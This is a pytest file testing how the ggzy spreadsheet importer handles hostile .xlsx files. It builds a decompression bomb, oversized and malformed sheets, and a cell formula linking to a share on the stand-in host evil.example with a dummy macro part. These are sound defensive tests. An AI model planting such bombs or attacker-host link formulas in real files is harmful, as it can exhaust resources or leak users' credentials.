"""Hostile workbooks: refused before they are decompressed, or read within the limits, never a hang.

Limits (imports/sheets.py, README "What ggzy promises"): 2 GiB uncompressed in all, a part above
16 MiB may expand at most 100 times, at most 10,000 parts, a sheet's declared used range at most 1,024
columns.

These run on a SQLite ledger only: what they test ends before a ledger is written (a refused file writes nothing,
and the reading limits are the same whichever database the records would go to); posting itself runs on both
databases in test_import.py and test_faults.py.
"""

from __future__ import annotations

import json
import random
import resource
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from support import GOOD, run, workbook


def rezip(source: Path, target: Path, replace: dict[str, bytes] | None = None,
          add: dict[str, bytes] | None = None) -> Path:
    """A copy of the workbook ``source`` with parts replaced or added (deflated, as Excel writes them)."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            new.writestr(item.filename, replace.get(item.filename, old.read(item.filename)))
        for name, data in add.items():
            new.writestr(name, data)
    return target


def sheet_xml(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def records(url: str) -> list[dict]:
    return json.loads(run(url, "records", "--format", "json").stdout)["records"]


@pytest.mark.one_database("hostile .xlsx: refused while reading, before the ledger is written")
def test_a_decompression_bomb_is_refused_unread(sqlite_url: str, tmp_path: Path) -> None:
    run(sqlite_url, "init")
    base = workbook(tmp_path / "base.xlsx", GOOD)
    bomb = sheet_xml(base).replace(b"</sheetData>", b"</sheetData>" + b" " * (64 << 20))  # 64 MiB → ~64 KiB
    path = rezip(base, tmp_path / "bomb.xlsx", replace={"xl/worksheets/sheet1.xml": bomb})
    assert path.stat().st_size < 1 << 20
    started = time.perf_counter()
    result = run(sqlite_url, "import", str(path))
    assert result.exit_code == 2 and "looks like a decompression bomb" in result.stderr
    assert time.perf_counter() - started < 5 and records(sqlite_url) == []


@pytest.mark.one_database("hostile .xlsx: refused while reading, before the ledger is written")
def test_the_total_size_limit(sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ggzy.imports import sheets

    run(sqlite_url, "init")
    monkeypatch.setattr(sheets, "MAX_UNCOMPRESSED", 4096)  # the mechanism, on a small file
    result = run(sqlite_url, "import", str(workbook(tmp_path / "july.xlsx", GOOD)))
    assert result.exit_code == 2 and "would expand to" in result.stderr and "split the workbook" in result.stderr


@pytest.mark.one_database("hostile .xlsx: refused while reading, before the ledger is written")
def test_a_sheet_as_wide_as_excel_allows_is_refused(sqlite_url: str, tmp_path: Path) -> None:
    import openpyxl

    run(sqlite_url, "init")
    path = workbook(tmp_path / "wide.xlsx", GOOD)
    wb = openpyxl.load_workbook(path)
    wb.active["XFD1"] = "stray"  # one cell in the last of 16,384 columns
    wb.save(path)
    result = run(sqlite_url, "import", str(path))
    assert result.exit_code == 2 and "spans to column XFD (16,384 columns; limit 1,024)" in result.stderr
    assert records(sqlite_url) == []


@pytest.mark.one_database("hostile .xlsx: the reader's time and memory; the ledger is incidental")
def test_a_sheet_with_a_cell_in_row_1048576_is_read_in_bounded_time_and_memory(sqlite_url: str,
                                                                              tmp_path: Path) -> None:
    run(sqlite_url, "init")
    base = workbook(tmp_path / "base.xlsx", GOOD)
    stray = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    xml = sheet_xml(base).replace(b"</sheetData>", stray)
    xml = xml.replace(b'<dimension ref="A1:J4"/>', b'<dimension ref="A1:J1048576"/>')
    path = rezip(base, tmp_path / "tall.xlsx", replace={"xl/worksheets/sheet1.xml": xml})
    started = time.perf_counter()
    child = subprocess.run([sys.executable, "-m", "ggzy", "--db", sqlite_url, "import", "--no-check", "--format",
                            "json", str(path)], capture_output=True, text=True, timeout=300)
    seconds = time.perf_counter() - started
    peak_mib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
    assert child.returncode in (0, 1), child.stderr
    (item,) = json.loads(child.stdout)["files"]
    assert item["posted"] == 3 and item["rows"] == item["posted"] + item["quarantined"]
    assert seconds < 120 and peak_mib < 2048, (seconds, peak_mib)


@pytest.mark.one_database("hostile .xlsx: the reader's time and memory; the ledger is incidental")
def test_a_100_mb_shared_strings_table_is_read_within_limits(sqlite_url: str, tmp_path: Path) -> None:
    run(sqlite_url, "init")
    base = workbook(tmp_path / "base.xlsx", GOOD)
    rng = random.Random(9)
    pieces = [b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats'
              b'.org/spreadsheetml/2006/main">']
    size = 0
    while size < 100 << 20:  # unique, incompressible-ish strings: not a bomb, just big
        text = b"<si><t>%032x%032x</t></si>" % (rng.getrandbits(128), rng.getrandbits(128))
        pieces.append(text)
        size += len(text)
    pieces.append(b"</sst>")
    path = rezip(base, tmp_path / "strings.xlsx", replace={"xl/sharedStrings.xml": b"".join(pieces)},
                 add={} if "xl/sharedStrings.xml" in zipfile.ZipFile(base).namelist() else
                 {"xl/sharedStrings.xml": b"".join(pieces)})
    started = time.perf_counter()
    child = subprocess.run([sys.executable, "-m", "ggzy", "--db", sqlite_url, "import", "--no-check", "--format",
                            "json", str(path)], capture_output=True, text=True, timeout=300)
    assert child.returncode == 0, child.stderr
    assert json.loads(child.stdout)["files"][0]["posted"] == 3
    assert time.perf_counter() - started < 120


@pytest.mark.one_database("hostile .xlsx: what the reader does not follow; the ledger is incidental")
def test_external_links_and_macros_are_never_followed_or_run(sqlite_url: str, tmp_path: Path) -> None:
    """A formula pointing into another workbook is read as its cached value; a vbaProject part is ignored."""
    run(sqlite_url, "init")
    base = workbook(tmp_path / "base.xlsx", GOOD)
    xml = sheet_xml(base)
    cell = b'<c r="I2" t="inlineStr"><is><t>950,000.50</t></is></c>'
    assert cell in xml
    linked = xml.replace(cell, b"<c r=\"I2\"><f>'[\\\\evil.example\\share\\other.xlsx]Sheet1'!A1</f>"
                               b"<v>950000.5</v></c>")
    path = rezip(base, tmp_path / "linked.xlsx", replace={"xl/worksheets/sheet1.xml": linked},
                 add={"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/'
                      b'spreadsheetml/2006/main"><externalBook/></externalLink>',
                      "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 512})
    result = run(sqlite_url, "import", "--no-check", str(path))
    assert result.exit_code == 0, result.output
    assert {r["project_code"]: r["deal_fen"] for r in records(sqlite_url)}["CG-001"] == 95_000_050


@pytest.mark.one_database("hostile .xlsx: refused while reading, before the ledger is written")
@pytest.mark.parametrize("damage", [
    lambda xml: xml[: len(xml) // 2],  # cut off mid-element
    lambda xml: xml.replace(b"<sheetData>", b"<sheetData><row r=\"2\"><c r=\"A2\"><v>1</c></row>"),  # bad nesting
])
def test_malformed_sheet_xml_exits_2_with_one_sentence(sqlite_url: str, tmp_path: Path,
                                                       damage: Callable[[bytes], bytes]) -> None:
    run(sqlite_url, "init")
    base = workbook(tmp_path / "base.xlsx", GOOD)
    path = rezip(base, tmp_path / "broken.xlsx", replace={"xl/worksheets/sheet1.xml": damage(sheet_xml(base))})
    result = run(sqlite_url, "import", str(path))
    assert result.exit_code == 2, result.output
    assert "broken.xlsx" in result.stderr and "save it again as .xlsx" in result.stderr
    assert "Traceback" not in result.stderr and records(sqlite_url) == []
